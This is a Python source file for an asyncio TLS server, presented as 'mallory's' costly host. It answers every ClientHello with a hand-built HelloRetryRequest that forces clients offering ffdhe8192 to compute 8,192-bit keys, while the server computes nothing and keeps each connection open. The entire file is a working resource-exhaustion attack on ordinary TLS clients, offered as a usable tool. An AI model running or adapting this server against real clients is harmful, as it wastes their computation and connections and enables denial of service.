"""mallory's policy hosts that make whoever connects compute: a TLS server that costs her nothing.

Promises: every ClientHello is answered with a HelloRetryRequest to ffdhe8192 (RFC 8446 section
4.1.4), for which a client that offers this group makes a key of 8,192 bits; then nothing more is
said, and the connection stays open until the client ends it. Must not: compute anything itself.
"""

from __future__ import annotations

import asyncio
from typing import Final, cast

#: Section 4.2.7.
FFDHE8192: Final = 0x0104
_RANDOM: Final = bytes.fromhex("cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c")
#: Where the session id stands in a record with a ClientHello: behind the heads, version, random.
_SESSION: Final = 5 + 4 + 2 + 32


def retry(session: bytes, group: int = FFDHE8192) -> bytes:
    """A HelloRetryRequest for the session id of a ClientHello, in one record."""
    extensions = b"\0\x2b\0\x02\x03\x04" + b"\0\x33\0\x02" + group.to_bytes(2, "big")
    message = b"\x03\x03" + _RANDOM + bytes([len(session)]) + session + b"\x13\x02\0"
    message += len(extensions).to_bytes(2, "big") + extensions
    message = b"\x02" + len(message).to_bytes(3, "big") + message
    return b"\x16\x03\x03" + len(message).to_bytes(2, "big") + message


def session_of(hello: bytes) -> bytes:
    """The session id of a ClientHello that begins `hello`."""
    size = hello[_SESSION] if len(hello) > _SESSION else 0
    return hello[_SESSION + 1 : _SESSION + 1 + size]


class CostlyHost(asyncio.Protocol):
    """One connection."""

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Wait for the ClientHello."""
        self._transport = cast(asyncio.Transport, transport)
        self._said = False

    def data_received(self, data: bytes) -> None:
        """Answer it; what comes after it is not looked at."""
        if not self._said:
            self._said = True
            self._transport.write(retry(session_of(data)))
